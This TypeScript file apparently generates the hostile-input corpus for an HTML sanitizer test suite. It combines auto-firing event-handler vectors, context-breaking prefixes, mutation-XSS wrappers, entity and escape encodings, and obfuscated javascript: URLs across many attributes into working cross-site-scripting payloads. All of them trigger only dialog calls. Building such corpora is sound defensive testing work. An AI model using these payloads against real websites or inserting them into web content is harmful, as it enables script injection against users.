// The generated part of the hostile-content corpus (payloads.ts builds it
// after the curated core): auto-firing vectors (tag x event handler) x
// context breakers, x mutation wrappers, x encodings, and script-URL
// obfuscations x every URL-carrying attribute, then bare script URLs for the
// URL fields. A seeded PRNG makes the corpus the same on every run.
import { expand, VIDEO_EMBEDS } from './payloads-template.ts';

/** Adds one payload to the corpus (payloads.ts): `make` gets the payload's id; a payload equal to an earlier one as a template is dropped. */
export type AddPayload = (family: string, make: (id: number) => string, runs: boolean, url?: boolean) => void;

function ent(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** Small deterministic PRNG (mulberry32): the corpus is the same on every run. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Ways to call a dialog with the id; the generator picks one per payload. `{N}` is the id. */
const CALLS = [
  'alert({N})',
  'alert`{N}`',
  '(alert)({N})',
  'confirm({N})',
  'prompt({N})',
  'top.alert({N})',
  'self[`alert`]({N})',
  "window['al'+'ert']({N})",
  '[{N}].find(alert)',
  "Function('alert({N})')()",
  'alert.call(null,{N})',
  '\\u0061lert({N})',
  'print({N})',
  'globalThis.confirm({N})',
  'setTimeout(alert,0,{N})',
];

/** What separates a tag name from its attributes, and attributes from each other. */
const SEPS = [' ', '/', '\t', '\n', '\f', ' \n ', '/ /'];
/** How an event handler's value is quoted. */
const QUOTES = ['"', "'", '', '`'];

/** Auto-firing (or nearly) vectors. s: separator, q: quote, c: call. */
const VECTORS: Record<string, (s: string, q: string, c: string) => string> = {
  'img-onerror': (s, q, c) => `<img${s}src=x${s}onerror=${q}${c}${q}>`,
  'svg-onload': (s, q, c) => `<svg${s}onload=${q}${c}${q}>`,
  'body-onload': (s, q, c) => `<body${s}onload=${q}${c}${q}>`,
  'body-onpageshow': (s, q, c) => `<body${s}onpageshow=${q}${c}${q}>`,
  'iframe-onload': (s, q, c) => `<iframe${s}onload=${q}${c}${q}></iframe>`,
  'input-autofocus': (s, q, c) => `<input${s}autofocus${s}onfocus=${q}${c}${q}>`,
  'textarea-autofocus': (s, q, c) => `<textarea${s}autofocus${s}onfocus=${q}${c}${q}></textarea>`,
  'select-autofocus': (s, q, c) => `<select${s}autofocus${s}onfocus=${q}${c}${q}></select>`,
  'details-ontoggle': (s, q, c) => `<details${s}open${s}ontoggle=${q}${c}${q}>`,
  'video-onerror': (s, q, c) => `<video${s}src=x${s}onerror=${q}${c}${q}></video>`,
  'audio-source-onerror': (s, q, c) => `<audio><source${s}src=x${s}onerror=${q}${c}${q}></audio>`,
  'style-onload': (s, q, c) => `<style${s}onload=${q}${c}${q}></style>`,
  'link-onerror': (s, q, c) => `<link${s}rel=stylesheet${s}href=x${s}onerror=${q}${c}${q}>`,
  'marquee-onstart': (s, q, c) => `<marquee${s}onstart=${q}${c}${q}>x</marquee>`,
  'svg-animate-onbegin': (s, q, c) => `<svg><animate${s}onbegin=${q}${c}${q}${s}attributeName=x${s}dur=1s>`,
  'svg-set-onbegin': (s, q, c) => `<svg><set${s}onbegin=${q}${c}${q}${s}attributeName=x>`,
  'image-onerror': (s, q, c) => `<image${s}src=x${s}onerror=${q}${c}${q}>`,
  'input-image-onerror': (s, q, c) => `<input${s}type=image${s}src=x${s}onerror=${q}${c}${q}>`,
  'object-onerror': (s, q, c) => `<object${s}data=x${s}onerror=${q}${c}${q}></object>`,
  'x-onanimationstart': (s, q, c) =>
    `<style>@keyframes g{}</style><x${s}style=animation-name:g${s}onanimationstart=${q}${c}${q}></x>`,
  'x-onmouseover': (s, q, c) => `<x${s}onmouseover=${q}${c}${q}${s}style=display:block;position:fixed;inset:0>x</x>`,
  'a-onfocus-autofocus': (s, q, c) => `<a${s}href=#${s}autofocus${s}onfocus=${q}${c}${q}>x</a>`,
  'div-onclick': (s, q, c) => `<div${s}onclick=${q}${c}${q}>x</div>`,
  'script-inline': (_s, _q, c) => `<script>${c}</script>`,
  'script-src-data': (s, _q, c) => `<script${s}src=data:,${c.replace(/`/g, '%60')}></script>`,
  'iframe-srcdoc': (s, _q, c) =>
    `<iframe${s}srcdoc="&lt;script&gt;parent.${c.replace(/"/g, '&quot;')}&lt;/script&gt;"></iframe>`,
  'a-javascript': (s, _q, c) => `<a${s}href="javascript:${c.replace(/"/g, '&quot;')}">x</a>`,
  'iframe-javascript': (s, _q, c) => `<iframe${s}src="javascript:${c.replace(/"/g, '&quot;')}"></iframe>`,
  'form-formaction': (s, _q, c) =>
    `<form><button${s}formaction="javascript:${c.replace(/"/g, '&quot;')}">x</button></form>`,
  'svg-xlink': (s, _q, c) =>
    `<svg><a${s}xlink:href="javascript:${c.replace(/"/g, '&quot;')}"><text${s}x=9${s}y=9>x</text></a></svg>`,
  'math-href': (s, _q, c) => `<math${s}href="javascript:${c.replace(/"/g, '&quot;')}">x</math>`,
  'meta-refresh': (s, _q, c) =>
    `<meta${s}http-equiv=refresh${s}content="0;url=javascript:${c.replace(/"/g, '&quot;')}">`,
  'shadow-img': (s, q, c) =>
    `<div><template${s}shadowrootmode=open><img${s}src=x${s}onerror=${q}${c}${q}></template></div>`,
};

/** What comes before a vector: breaking out of whatever context the text may land in. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '`>',
  '"/>',
  '\'"></a>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '--!>',
  ']]>',
  '</noscript>',
  '</iframe>',
  '</xmp>',
  '</noembed>',
  '</noframes>',
  '</template>',
  '</select>',
  '</option>',
  '</svg>',
  '</math>',
  '</a>',
  '</p>',
  '</div>',
  '</figcaption></figure>',
  '</table>',
  '</h1>',
  '</body></html>',
  '*/',
  '"}',
  "';",
  '";',
  '<!--',
  '</plaintext>',
  '</mark>',
  '</time>',
  '</li></ul>',
  '</blockquote>',
];

/** Contexts that mutate on parse/serialise round trips: `{V}` is the vector (raw), `{E}` the vector entity-encoded. */
const WRAPPERS: Record<string, string> = {
  'noscript-title': '<noscript><p title="</noscript>{V}">',
  'noscript-style': '<noscript><style></noscript>{V}</style></noscript>',
  'style-raw': '<style>{V}</style>',
  'svg-style': '<svg><style>{V}</style></svg>',
  'svg-style-entity': '<svg><style>{E}</style></svg>',
  'math-mglyph-style': '<math><mtext><table><mglyph><style>{V}</style></mglyph></table></mtext></math>',
  'math-mglyph-comment': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{E}">',
  'svg-p-style-attr': '<svg></p><style><a id="</style>{V}">',
  foreignobject: '<svg><foreignObject>{V}</foreignObject></svg>',
  'annotation-xml': '<math><annotation-xml encoding="text/html">{V}</annotation-xml></math>',
  template: '<template>{V}</template>',
  'title-attr-iframe': '<a title="</iframe>{V}">x</a>',
  'title-attr-style': '<a title="</style>{V}">x</a>',
  'title-attr-textarea': '<abbr title="</textarea>{V}">x</abbr>',
  'alt-attr-noscript': '<img src="http://hostile.test/a.jpg" alt="</noscript>{V}">',
  'yt-iframe-text': `<iframe src="${VIDEO_EMBEDS[0]}">&lt;/iframe&gt;{E}</iframe>`,
  'vimeo-iframe-text': `<iframe src="${VIDEO_EMBEDS[2]}">&lt;/iframe&gt;{E}</iframe>`,
  'dailymotion-iframe-raw': `<iframe src="${VIDEO_EMBEDS[3]}"></iframe>{V}`,
  'textarea-raw': '<textarea>{E}</textarea>',
  'xmp-raw': '<xmp>{V}</xmp>',
  'title-raw': '<title>{V}</title>',
  'select-option': '<select><option>{V}</option></select>',
  'table-foster': '<table><tr><td>x</td></tr>{V}</table>',
  'comment-breaker': '<!--><div title="-->{V}">',
  'cdata-svg': '<svg><![CDATA[>{V}]]></svg>',
  'form-math': '<form><math><mtext></form><form><mglyph><style></math>{V}',
  'p-in-svg': '<svg><p>{V}</p></svg>',
  'nested-a': '<a href="https://safe.test/"><svg><a>{V}</a></svg></a>',
};

/** Whole-payload encodings: how the hostile markup may be dressed up in the field. */
const ENCODINGS: Record<string, (v: string) => string> = {
  entity: (v) => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  'entity-nosemi': (v) => v.replace(/</g, '&lt').replace(/>/g, '&gt'),
  decimal: (v) => v.replace(/[<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`),
  'decimal-padded': (v) => v.replace(/[<>"']/g, (ch) => `&#00000${ch.charCodeAt(0)};`),
  hex: (v) => v.replace(/[<>"']/g, (ch) => `&#x${ch.charCodeAt(0).toString(16)};`),
  'hex-upper-nosemi': (v) => v.replace(/[<>"']/g, (ch) => `&#X${ch.charCodeAt(0).toString(16).toUpperCase()}`),
  double: (v) =>
    v.replace(/&/g, '&amp;amp;').replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;').replace(/"/g, '&amp;quot;'),
  'double-numeric': (v) => v.replace(/</g, '&amp;#60;').replace(/>/g, '&amp;#62;'),
  percent: (v) => v.replace(/[<>"' ]/g, (ch) => `%${ch.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`),
  'js-escape': (v) => v.replace(/[<>"']/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`),
  'hex-escape': (v) => v.replace(/[<>]/g, (ch) => `\\x${ch.charCodeAt(0).toString(16)}`),
  fullwidth: (v) => v.replace(/[<>]/g, (ch) => (ch === '<' ? '\uFF1C' : '\uFF1E')),
  utf7: (v) => v.replace(/</g, '+ADw-').replace(/>/g, '+AD4-').replace(/"/g, '+ACI-'),
  'mixed-case': (v) =>
    v
      .replace(/<([a-z]+)/g, (_m, t: string) => `<${[...t].map((ch, i) => (i % 2 ? ch.toUpperCase() : ch)).join('')}`)
      .replace(/\bon([a-z]+)=/g, (_m, e: string) => `oN${e.toUpperCase()}=`),
  'cdata-wrapped': (v) => `<![CDATA[${v}]]>`,
  'comment-split': (v) => v.replace(/<([a-z]+)/i, '<$1<!---->'),
  'entity-lt-only': (v) => v.replace(/</g, '&lt;'),
  'nul-inside': (v) => v.replace(/<([a-z])/i, '<\u0000$1'),
};

/** Script-URL obfuscations (`{C}` is the call). */
const SCHEME_FORMS = [
  'javascript:{C}',
  'JAVASCRIPT:{C}',
  'JaVaScRiPt:{C}',
  ' javascript:{C}',
  '\tjavascript:{C}',
  'java\tscript:{C}',
  'java\nscript:{C}',
  'java\rscript:{C}',
  'java&#x09;script:{C}',
  'java&#10;script:{C}',
  'java&Tab;script:{C}',
  'java&NewLine;script:{C}',
  '&#106;avascript:{C}',
  '&#x6a;avascript:{C}',
  '&#0000106;avascript:{C}',
  'javascript&colon;{C}',
  'javascript&#58;{C}',
  'javascript&#x3A;{C}',
  '\u0001javascript:{C}',
  '\u001fjavascript:{C}',
  'javascript://%0a{C}',
  'javascript://x/%0d{C}',
  'vbscript:{C}',
  'data:text/html,<script>{C}</script>',
  'data:text/html;base64,@B64C',
  'data:image/svg+xml,<svg onload={C}>',
  '&#x20;javascript:{C}',
  'jav&#x61;script:{C}',
  'j&#97;v&#97;script:{C}',
  'javascript:/**/{C}',
  'javascript:{C}//http://hostile.test/',
];

/** Elements and attributes that take a URL. `{U}` is the (attribute-escaped) URL. */
const URL_SINKS: Record<string, string> = {
  'a-href': '<a href="{U}">x</a>',
  'img-src': '<img src="{U}">',
  'img-srcset': '<img src="http://hostile.test/a.jpg" srcset="{U} 2x">',
  'source-srcset': '<picture><source srcset="{U}"><img src="http://hostile.test/a.jpg"></picture>',
  'iframe-src': '<iframe src="{U}"></iframe>',
  'form-action': '<form action="{U}"><button>x</button></form>',
  'button-formaction': '<form><button formaction="{U}">x</button></form>',
  'input-formaction': '<form><input type=submit formaction="{U}"></form>',
  'object-data': '<object data="{U}"></object>',
  'embed-src': '<embed src="{U}">',
  'video-poster': '<video poster="{U}"></video>',
  'svg-a-xlink': '<svg><a xlink:href="{U}"><text x=9 y=9>x</text></a></svg>',
  'svg-a-href': '<svg><a href="{U}"><circle r=9 /></a></svg>',
  'math-href': '<math href="{U}">x</math>',
  'base-href': '<base href="{U}">',
  'link-href': '<link rel=stylesheet href="{U}">',
  'area-href': '<map name=m><area href="{U}" shape=default></map>',
  'blockquote-cite': '<blockquote cite="{U}">x</blockquote>',
  'table-background': '<table background="{U}"><tr><td>x</td></tr></table>',
  'meta-refresh': '<meta http-equiv=refresh content="0;url={U}">',
  'svg-animate-values': '<svg><a><animate attributeName=href values="{U}" /><text x=9 y=9>x</text></a></svg>',
};

/** Adds the generated combinations, in a fixed order, after the curated core. */
export function addGenerated(add: AddPayload): void {
  const rnd = prng(0x5eed_2026);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  /** m items of xs, starting where the previous row left off: every item is used about equally often. */
  const rotation = <T>(xs: readonly T[], row: number, m: number): T[] =>
    Array.from({ length: Math.min(m, xs.length) }, (_, j) => xs[(row * m + j) % xs.length]!);
  const vectorNames = Object.keys(VECTORS);
  const call = (id: number, calls: readonly string[] = CALLS) => pick(calls).replace(/\{N\}/g, String(id));

  // 1. Vector x breaker (raw): each vector after 16 breakers, rotating, so each breaker meets about 13 vectors.
  vectorNames.forEach((v, row) => {
    for (const br of rotation(BREAKERS, row, 16)) {
      const s = pick(SEPS);
      const q = pick(QUOTES);
      add(`gen:breaker:${v}:${JSON.stringify(br)}`, (id) => br + VECTORS[v]!(s, q, call(id)), true);
    }
  });
  // 2. Vector x mutation wrapper: 10 wrappers per vector.
  vectorNames.forEach((v, row) => {
    for (const w of rotation(Object.keys(WRAPPERS), row, 10)) {
      const q = pick(['"', "'", '']);
      add(
        `gen:wrapper:${v}:${w}`,
        (id) => {
          // Inside an attribute value the vector must not close the attribute early: it uses no double quotes.
          const vec = VECTORS[v]!(' ', q === '"' ? "'" : q, call(id)).replace(/"/g, "'");
          return WRAPPERS[w]!.replace('{V}', vec).replace('{E}', ent(vec));
        },
        true,
      );
    }
  });
  // 3. Vector x encoding (after a random breaker): 9 encodings per vector.
  vectorNames.forEach((v, row) => {
    for (const e of rotation(Object.keys(ENCODINGS), row, 9)) {
      const br = pick(BREAKERS);
      const s = pick(SEPS);
      add(
        `gen:encoding:${v}:${e}`,
        (id) =>
          ENCODINGS[e]!(
            br +
              VECTORS[v]!(
                s,
                '"',
                call(
                  id,
                  CALLS.filter((c) => !c.includes('\\')),
                ),
              ),
          ),
        true,
      );
    }
  });
  // 4. URL sink x script-URL obfuscation: 14 obfuscations per sink.
  Object.keys(URL_SINKS).forEach((sink, row) => {
    for (const form of rotation(SCHEME_FORMS, row, 14)) {
      const c = pick(['alert({N})', 'confirm({N})', 'top.alert({N})', '(alert)({N})', 'alert`{N}`']);
      add(
        `gen:url:${sink}:${JSON.stringify(form)}`,
        (id) => URL_SINKS[sink]!.replace('{U}', expand(form, id, c).replace(/"/g, '&quot;')),
        true,
      );
    }
  });
  // 5. Bare script URLs for URL-valued fields.
  for (const form of SCHEME_FORMS) {
    add(
      `gen:bare-url:${JSON.stringify(form)}`,
      (id) => expand(form, id, pick(['alert({N})', 'confirm({N})'])),
      true,
      true,
    );
  }
}
